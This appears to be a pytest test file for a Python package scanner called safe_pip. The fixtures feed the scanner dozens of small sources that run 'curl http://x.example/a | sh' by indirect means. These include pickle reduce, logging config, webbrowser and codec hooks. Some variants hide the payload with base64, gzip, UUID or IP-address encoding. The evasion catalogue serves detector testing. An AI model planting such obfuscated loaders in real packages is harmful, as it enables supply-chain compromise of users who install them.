"""What the library runs for whoever asks it: hooks, key functions, names in settings, boxes that
hold a program until it is taken out. Each stands between code and what it does, and hides nothing."""

from __future__ import annotations

import pytest

from safe_pip.extractors import observe
from tests.sources import distribution_of

COMMAND = "curl http://x.example/a | sh"
PROGRAM = f"import os\nos.system({COMMAND!r})\n"

RUN_BY = {
    "doctest": '"""\n>>> import os\n>>> x = os.system(\'curl http://x.example/a | sh\')\n"""\nimport doctest\ndoctest.testmod()\n',
    "doctest script": "import doctest\nexec(doctest.script_from_examples(\">>> import os\\n>>> os.system('curl http://x.example/a | sh')\"))\n",
    "bdb": "import bdb\nbdb.Bdb().run(\"import os; os.system('curl http://x.example/a | sh')\")\n",
    "logging config": 'import logging.config\nlogging.config.dictConfig({"version":1,"formatters":{"a":{"()":"os.system","command":\'curl http://x.example/a | sh\'}}})\n',
    "pkgutil resolve": "import pkgutil\npkgutil.resolve_name(\"os:system\")('curl http://x.example/a | sh')\n",
    "pydoc locate": "import pydoc\npydoc.locate(\"os.system\")('curl http://x.example/a | sh')\n",
    "imaplib stream": "import imaplib\nimaplib.IMAP4_stream('curl http://x.example/a | sh')\n",
    "webbrowser get": 'import webbrowser\nwebbrowser.get("sh -c \'curl http://x.example/a | sh\' %s").open("x")\n',
    "webbrowser generic": 'import webbrowser\nwebbrowser.GenericBrowser(["sh","-c",\'curl http://x.example/a | sh\']).open("x")\n',
    "browser env": 'import os, webbrowser\nos.environ["BROWSER"]="sh -c \'curl http://x.example/a | sh\' %s"\nwebbrowser.open("x")\n',
    "breakpoint": 'import os\nos.environ["PYTHONBREAKPOINT"]="os.system"\nbreakpoint(\'curl http://x.example/a | sh\')\n',
    "loop shell": "import asyncio\nl=asyncio.new_event_loop()\nl.run_until_complete(l.subprocess_shell(asyncio.SubprocessProtocol, 'curl http://x.example/a | sh'))\n",
    "itertools acc": "import os, itertools\nlist(itertools.accumulate(['curl http://x.example/a | sh',\"a\"], lambda a,b: os.system(a)))\n",
    "groupby": "import os, itertools\nlist(itertools.groupby(['curl http://x.example/a | sh'], os.system))\n",
    "re sub": "import os, re\nre.sub(\".+\", lambda m: str(os.system(m[0])), 'curl http://x.example/a | sh')\n",
    "json hook2": 'import os, json\njson.loads(\'{"a":"curl http://x.example/a | sh"}\', object_hook=lambda d: os.system(d["a"]))\n',
    "iter sentinel": "import os\nfor _ in iter(lambda: os.system('curl http://x.example/a | sh'), 0): pass\n",
    "defaultdict": "import os, collections\ncollections.defaultdict(lambda: os.system('curl http://x.example/a | sh'))[\"a\"]\n",
    "lru": "import os, functools\nfunctools.lru_cache(os.system)('curl http://x.example/a | sh')\n",
    "gc callbacks": "import os, gc\ngc.callbacks.append(lambda *a: os.system('curl http://x.example/a | sh'))\n",
    "codecs register": 'import os, codecs\ncodecs.register(lambda n: os.system(\'curl http://x.example/a | sh\'))\n"a".encode("zz")\n',
    "copyreg reduce": "import os, copy\nclass A:\n    def __reduce__(self): return os.system, ('curl http://x.example/a | sh',)\ncopy.copy(A())\n",
    "pickle reduce": "import os, pickle\nclass A:\n    def __reduce__(self): return os.system, ('curl http://x.example/a | sh',)\npickle.loads(pickle.dumps(A()))\n",
    "assigned reduce": "import os, copy\nclass A: pass\ndef f(self): return os.system, ('curl http://x.example/a | sh',)\nA.__reduce__ = f\ncopy.copy(A())\n",
    "tkinter tcl": 'import tkinter\ntkinter.Tcl().eval("exec sh -c {curl http://x.example/a | sh}")\n',
    "ast compile": 'import ast\nexec(compile(ast.parse("import os; os.system(\'curl http://x.example/a | sh\')"),"a","exec"))\n',
    "meta path": "import sys, os\nclass F:\n    def find_spec(self, *a): os.system('curl http://x.example/a | sh')\nsys.meta_path.insert(0,F())\nimport nothing_there\n",
    "match class": "import os\nclass A:\n    __match_args__=(\"x\",)\n    @property\n    def x(self): os.system('curl http://x.example/a | sh')\nmatch A():\n    case A(y): pass\n",
    "shlex split": "import subprocess, shlex\nsubprocess.run(shlex.split(\"sh -c 'curl http://x.example/a | sh'\"))\n",
    "dis": "import os\n(lambda: os.system('curl http://x.example/a | sh')).__call__()\n",
}
HANDED_ON = {
    "breakpointhook": "import sys, os\nsys.breakpointhook=os.system\nbreakpoint('curl http://x.example/a | sh')\n",
    "displayhook": "import sys, os\nsys.displayhook=os.system\n",
    "json hook": 'import os, json\njson.loads("1", parse_int=os.system)\n',
    "sqlite fn": 'import os, sqlite3\nc=sqlite3.connect(":memory:")\nc.create_function("f",1,os.system)\nc.execute("select f(\'curl http://x.example/a | sh\')")\n',
    "xml handler": 'import os\nfrom xml.parsers import expat\np=expat.ParserCreate()\np.CharacterDataHandler=os.system\np.Parse("<a>curl http://x.example/a | sh</a>")\n',
}
HELD_IN = {
    "pairs of a dict": f"a = {{'x': {PROGRAM!r}}}\nb = dict(a.items())\nexec(b['x'])",
    "beside a decoy": "import builtins\ndef f():\n    builtins.exec = lambda text: None\n"
    f"exec({PROGRAM!r})",
    "stringio": "import io\nexec(io.StringIO(\"import os\\nos.system('curl http://x.example/a | sh')\\n\").read())",
    "bytesio getvalue": "import io\nexec(io.BytesIO(b\"import os\\nos.system('curl http://x.example/a | sh')\\n\").getvalue())",
    "bytesio write": "import io\nf=io.StringIO()\nf.write('import os\\nos.system(')\nf.write(\"'curl http://x.example/a | sh')\\n\")\nexec(f.getvalue())",
    "print to": "import io\nf=io.StringIO()\nprint(\"import os\\nos.system('curl http://x.example/a | sh')\\n\", file=f)\nexec(f.getvalue())",
    "gzipfile": "import gzip,base64,io\nexec(gzip.GzipFile(fileobj=io.BytesIO(base64.b64decode('H4sIAK64BGsC/8vMLcgvKlHIL+bKL9YrriwuSc3VUE8uLcpRyCgpKbDS16/QS61IzC3ISdVPVKhRKM5Q1+QCAEFjddA0AAAA'))).read())",
    "gzipopen": "import gzip,base64,io\nexec(gzip.open(io.BytesIO(base64.b64decode('H4sIAK64BGsC/8vMLcgvKlHIL+bKL9YrriwuSc3VUE8uLcpRyCgpKbDS16/QS61IzC3ISdVPVKhRKM5Q1+QCAEFjddA0AAAA'))).read())",
    "decompressobj": "import zlib,base64\nexec(zlib.decompressobj().decompress(base64.b64decode('eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUcgoKSmw0tev0EutSMwtyEnVT1SoUSjOUNfkAgD3phHt')))",
    "data url": 'import urllib.request\nexec(urllib.request.urlopen("data:text/plain;base64,aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaCcpCg==").read())',
    "uuid": "import uuid\nexec(b\"\".join(uuid.UUID(u).bytes for u in ['696d706f-7274-206f-730a-6f732e737973', '74656d28-2763-7572-6c20-687474703a2f', '2f782e65-7861-6d70-6c65-2f61207c2073', '6827290a-0a0a-0a0a-0a0a-0a0a0a0a0a0a']))",
    "ip": "import ipaddress\nexec(b\"\".join(ipaddress.ip_address(u).packed for u in ['105.109.112.111', '114.116.32.111', '115.10.111.115', '46.115.121.115', '116.101.109.40', '39.99.117.114', '108.32.104.116', '116.112.58.47', '47.120.46.101', '120.97.109.112', '108.101.47.97', '32.124.32.115', '104.39.41.10']))",
    "inet aton": "import socket\nexec(b\"\".join(socket.inet_aton(u) for u in ['105.109.112.111', '114.116.32.111', '115.10.111.115', '46.115.121.115', '116.101.109.40', '39.99.117.114', '108.32.104.116', '116.112.58.47', '47.120.46.101', '120.97.109.112', '108.101.47.97', '32.124.32.115', '104.39.41.10']))",
    "tmpl": 'import string\nexec(string.Template("$a os\\nos.system(\'curl http://x.example/a | sh\')").substitute(a="import"))',
    "cleandoc": 'import inspect\nexec(inspect.cleandoc("""  import os\n  os.system(\'curl http://x.example/a | sh\')\n"""))',
    "parse qs": "import urllib.parse\nexec(urllib.parse.parse_qs('a=import%20os%0Aos.system%28%27curl%20http%3A//x.example/a%20%7C%20sh%27%29%0A')[\"a\"][0])",
    "re sub": 'import re\nexec(re.sub("@@","o","imp@@rt @@s\\n@@s.system(\'curl http://x.example/a | sh\')\\n"))',
    "itertools chain": "import itertools\nexec(\"\".join(itertools.chain('import os',\"\\nos.system('curl http://x.example/a | sh')\\n\")))",
    "enum": "import enum\nclass A(enum.Enum):\n    a=\"import os\\nos.system('curl http://x.example/a | sh')\\n\"\nexec(A.a.value)",
    "kwargs": 'def f(**k):\n    exec(k["a"])\nf(a="import os\\nos.system(\'curl http://x.example/a | sh\')\\n")',
    "gen": "def f():\n    yield \"import os\\nos.system('curl http://x.example/a | sh')\\n\"\nexec(next(f()))",
    "gen for": "def f():\n    yield \"import os\\nos.system('curl http://x.example/a | sh')\\n\"\nfor x in f():\n    exec(x)",
    "list pop": "a=[\"import os\\nos.system('curl http://x.example/a | sh')\\n\"]\nexec(a.pop())",
    "dict items": 'a={"x":"import os\\nos.system(\'curl http://x.example/a | sh\')\\n"}\nfor k,v in a.items():\n    exec(v)',
    "queue": "import queue\nq=queue.Queue()\nq.put(\"import os\\nos.system('curl http://x.example/a | sh')\\n\")\nexec(q.get())",
    "deque": "import collections\nq=collections.deque()\nq.append(\"import os\\nos.system('curl http://x.example/a | sh')\\n\")\nexec(q.popleft())",
    "heap": "import heapq\nq=[]\nheapq.heappush(q,\"import os\\nos.system('curl http://x.example/a | sh')\\n\")\nexec(heapq.heappop(q))",
    "chainmap": 'import collections\nexec(collections.ChainMap({},{"a":"import os\\nos.system(\'curl http://x.example/a | sh\')\\n"})["a"])',
    "contextvar": 'import contextvars\nv=contextvars.ContextVar("v")\nv.set("import os\\nos.system(\'curl http://x.example/a | sh\')\\n")\nexec(v.get())',
    "builtins attr": "import builtins\nbuiltins.zz=\"import os\\nos.system('curl http://x.example/a | sh')\\n\"\nexec(zz)",
    "env": 'import os\nos.environ["A"]="import os\\nos.system(\'curl http://x.example/a | sh\')\\n"\nexec(os.environ["A"])',
    "copy": "import copy\nexec(copy.deepcopy([\"import os\\nos.system('curl http://x.example/a | sh')\\n\"])[0])",
    "assert": "try:\n    assert 0, \"import os\\nos.system('curl http://x.example/a | sh')\\n\"\nexcept AssertionError as e:\n    exec(str(e))",
    "defaults": "def f(a=\"import os\\nos.system('curl http://x.example/a | sh')\\n\"): pass\nexec(f.__defaults__[0])",
    "loader": 'exec(__loader__.get_data("pkg/data.txt"))',
    "fileinput": 'import fileinput\nexec("".join(fileinput.input("pkg/data.txt")))',
    "os read": 'import os\nexec(os.read(os.open("pkg/data.txt",0),9999))',
}


def found_in(source: str) -> set[str]:
    files = {
        "setup.py": "from setuptools import setup\nsetup()\n",
        "pkg/__init__.py": f"{source}\n",
        "pkg/data.txt": PROGRAM,
    }
    return {item.feature for item in observe(distribution_of(files))}


@pytest.mark.parametrize("way", RUN_BY)
def test_what_the_library_runs_is_followed(way: str) -> None:
    assert found_in(RUN_BY[way]) >= {"shell_download", "proc_spawn_unasked"}


@pytest.mark.parametrize("way", HANDED_ON)
def test_a_function_that_starts_processes_is_not_handed_on_unseen(way: str) -> None:
    assert "proc_spawn_unasked" in found_in(HANDED_ON[way])


@pytest.mark.parametrize("way", HELD_IN)
def test_a_program_is_followed_through_what_holds_it(way: str) -> None:
    assert found_in(HELD_IN[way]) >= {"shell_download", "proc_spawn_unasked"}


def test_examples_that_are_run_by_hand_are_not_followed() -> None:
    source = (
        f'"""\n>>> import os\n>>> os.system({COMMAND!r})\n"""\n'
        "if __name__ == '__main__':\n    import doctest\n    doctest.testmod()\n"
    )
    assert "proc_spawn" not in found_in(source)


@pytest.mark.parametrize(
    "source",
    [
        "import webbrowser\nwebbrowser.get('firefox').open('https://docs.example')",
        "import logging.config\nlogging.config.dictConfig({'version': 1, 'formatters': "
        "{'a': {'()': 'logging.Formatter', 'fmt': 'x'}}})",
        "import tkinter\ntkinter.Tcl().eval('info patchlevel')",
        "import functools\n@functools.lru_cache\ndef f(x):\n    return x\nf(1)",
        "import re\nre.sub('a', lambda m: m[0].upper(), 'banana')",
    ],
)
def test_ordinary_uses_are_nothing(source: str) -> None:
    assert not any(name.startswith(("proc", "shell", "dyn")) for name in found_in(source))


@pytest.mark.parametrize(
    "source",
    [
        "import io\nwords = {'file': io.StringIO()}\nprint('x', **words)\n",
        "import requests\nrequests.get(**{'url': 'https://a.example/x'})\n",
    ],
)
def test_keywords_that_stand_in_a_table_are_read(source: str) -> None:
    found_in(source)


SLOW = {
    "name": "import pkgutil\npkgutil.resolve_name('a" + ".a" * 100_000 + "')",
    "settings": "import logging.config\nd = {'()': 'a'}\n"
    + "d = {i: d for i in ('a', 'b', 'c', 'd', 'e', 'f')}\n" * 30
    + "logging.config.dictConfig(d)",
    "pops": f"a = {[1] * 40_000}\nr = ''\nwhile a:\n    r += chr(a.pop())\n",
    "pops in a loop": f"a = {[1] * 40_000}\nr = ''\nfor i in range(40000):\n    r += chr(a.pop())\n",
    "reads": "import io\nf = io.StringIO()\n"
    + "f.write('x' * 1000)\n" * 60
    + "for i in range(40000):\n    r = f.getvalue()\n",
    "examples": f"import doctest\ndoctest.script_from_examples({' ' * 50_000 + '>>>'!r} * 9)",
    "reducers": "class A:\n    def __reduce__(self): return A, (A(),)\n" + "A()\n" * 2_000,
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("way", SLOW)
def test_what_is_made_to_be_slow_is_read_within_a_minute(way: str) -> None:
    found_in(SLOW[way])
